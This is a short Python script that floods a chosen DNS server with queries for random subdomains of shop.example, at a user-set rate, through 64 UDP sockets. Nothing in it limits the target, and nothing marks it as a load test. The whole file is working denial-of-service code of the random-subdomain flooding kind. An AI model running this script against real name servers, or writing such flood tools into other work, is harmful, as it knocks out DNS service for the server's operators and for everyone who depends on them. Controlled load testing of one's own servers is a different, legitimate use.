#!/usr/bin/env python3
"""Floods a name server with questions for names of one zone: dns_queries.py SERVER RATE SECONDS."""
import random
import socket
import struct
import sys
import time

server, rate, seconds = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(64)]
began, count = time.time(), 0
while time.time() - began < seconds:
    label = f"h{random.randint(0, 99999)}".encode()
    name = bytes([len(label)]) + label + b"\x04shop\x07example\x00"
    socks[count % 64].sendto(struct.pack("!6H", random.randint(0, 65535), 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1), (server, 53))
    count += 1
    time.sleep(max(0, began + count / rate - time.time()))
